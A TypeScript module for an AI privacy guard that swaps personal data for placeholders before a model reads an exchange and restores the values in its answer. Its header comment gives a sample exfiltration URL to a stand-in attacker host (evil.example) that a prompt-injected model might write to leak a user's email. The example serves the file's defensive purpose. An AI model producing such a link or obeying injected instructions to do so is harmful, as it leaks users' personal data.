import type { Passage } from "./detector.ts";
import type { GuardHit } from "./guard.ts";
import { holesOf } from "./redaction.ts";

/*
 * A model can work with `[EMAIL_1]` as well as with an address; the reader of its answer cannot. A vault gives each
 * value that is taken out of one exchange a placeholder, and puts the values back into what the model says. It is made
 * with the exchange, for its principal, and goes with it: nothing is kept elsewhere, so that no placeholder of one
 * request can be turned into another's value.
 *
 * What is revealed must still be judged: a model that was told to may write `https://evil.example/?q=[EMAIL_1]`, and
 * that names nobody until the value is back. Exfiltration is looked for in the revealed answer, personal data before.
 */

/** How a text is written: as it is read, or as the inside of a JSON string, as arguments of tools are. */
export type TextForm = "plain" | "json";

export interface Vault {
  /**
   * One of the vault's texts with each hit whose action is `redact` replaced by its placeholder; a value that was hidden
   * before, also in another text, has the placeholder that it had.
   *
   * @param place of the text in the list that the vault was opened with
   * @param hits of that text, sorted by start, as the guard reports them
   */
  hide(place: number, hits: readonly GuardHit[], form?: TextForm): string;
  /**
   * What stands for a value from now on; it is a `GuardContext.hide`.
   *
   * @param from the text that the value was in; one of form `json` is the plain form of JSON
   */
  placeholder(rule: string, value: string, from?: Partial<Passage> & { readonly form?: string }): string;
  /** Does it hide anything? */
  readonly isEmpty: boolean;
  /** Where values are to be put back, in order, and from where on later text may make a placeholder of its end. */
  find(text: string, form?: TextForm): { readonly values: readonly HiddenValue[]; readonly pendingFrom: number };
  /** The text with the values back. A placeholder that this vault did not give is left as it is. */
  reveal(text: string, form?: TextForm): string;
  /** The same for an answer that comes in pieces, wherever they are cut. */
  revealStream(form?: TextForm): RevealStream;
}

/** A placeholder in a text and what it stands for, written as the text is. */
export interface HiddenValue {
  readonly start: number;
  readonly end: number;
  readonly value: string;
}

export interface RevealStream {
  push(delta: string): string;
  /** The rest: what looked like the beginning of a placeholder and was none. */
  end(): string;
}

/** Longest placeholder, its brackets and number included. */
const LONGEST = 64;
const PLACEHOLDER = /\[[A-Z][A-Z0-9_]{0,50}_[1-9][0-9]{0,8}\]/g;
const GROWING = /^\[[A-Z0-9_]*$/;

/**
 * @param texts everything of the exchange that the model will read: what already looks like a placeholder there, such
 *   as one that a user wrote, is never given to a value
 */
export function openVault(texts: readonly string[]): Vault {
  const written = new Set(texts.flatMap((text) => text.match(PLACEHOLDER) ?? []));
  const values = new Map<string, string>();
  const placeholders = new Map<string, string>();
  const counts = new Map<string, number>();

  function placeholder(rule: string, taken: string, from?: { readonly form?: string }): string {
    const value = from?.form === "json" ? unescaped(taken) : taken;
    const key = `${rule}\n${value}`;
    const known = placeholders.get(key);
    if (known !== undefined) return known;
    const name = rule.toUpperCase().replace(/[^A-Z0-9]+/g, "_");
    let given: string;
    do {
      const count = (counts.get(name) ?? 0) + 1;
      counts.set(name, count);
      given = `[${name}_${count}]`;
    } while (written.has(given));
    placeholders.set(key, given);
    values.set(given, value);
    return given;
  }

  function hide(place: number, hits: readonly GuardHit[], form: TextForm = "plain"): string {
    const text = texts[place] ?? "";
    const pieces: string[] = [];
    let done = 0;
    for (const { start, end, label } of holesOf(hits)) {
      pieces.push(text.slice(done, start), placeholder(label.rule, text.slice(start, end), { form }));
      done = end;
    }
    pieces.push(text.slice(done));
    return pieces.join("");
  }

  // One pass: what a value itself holds is not looked at again.
  function reveal(text: string, form: TextForm = "plain"): string {
    let revealed = "";
    let done = 0;
    for (const { start, end, value } of valuesIn(text, form)) {
      revealed += text.slice(done, start) + value;
      done = end;
    }
    return revealed + text.slice(done);
  }

  function valuesIn(text: string, form: TextForm): readonly HiddenValue[] {
    if (values.size === 0) return [];
    const found: HiddenValue[] = [];
    for (const { 0: written, index: start } of text.matchAll(PLACEHOLDER)) {
      const value = values.get(written);
      if (value === undefined) continue;
      const end = start + written.length;
      found.push({ start, end, value: form === "json" ? JSON.stringify(value).slice(1, -1) : value });
    }
    return found;
  }

  function revealStream(form: TextForm = "plain"): RevealStream {
    let held = "";
    return {
      push(delta) {
        const text = held + delta;
        const end = pendingFrom(text);
        held = text.slice(end);
        return reveal(text.slice(0, end), form);
      },
      end() {
        const rest = held;
        held = "";
        return rest;
      },
    };
  }
  return {
    hide,
    placeholder,
    get isEmpty() {
      return values.size === 0;
    },
    find: (text, form = "plain") => ({ values: valuesIn(text, form), pendingFrom: pendingFrom(text) }),
    reveal,
    revealStream,
  };
}

function pendingFrom(text: string): number {
  const open = text.lastIndexOf("[");
  const isGrowing = open >= 0 && text.length - open < LONGEST && GROWING.test(text.slice(open));
  return isGrowing ? open : text.length;
}

/** What the inside of a JSON string says; as it is where it is no such thing. */
function unescaped(written: string): string {
  if (!written.includes("\\")) return written;
  try {
    return JSON.parse(`"${written}"`) as string;
  } catch {
    // A match may begin or end within an escape: then the characters themselves are the value.
    return written;
  }
}
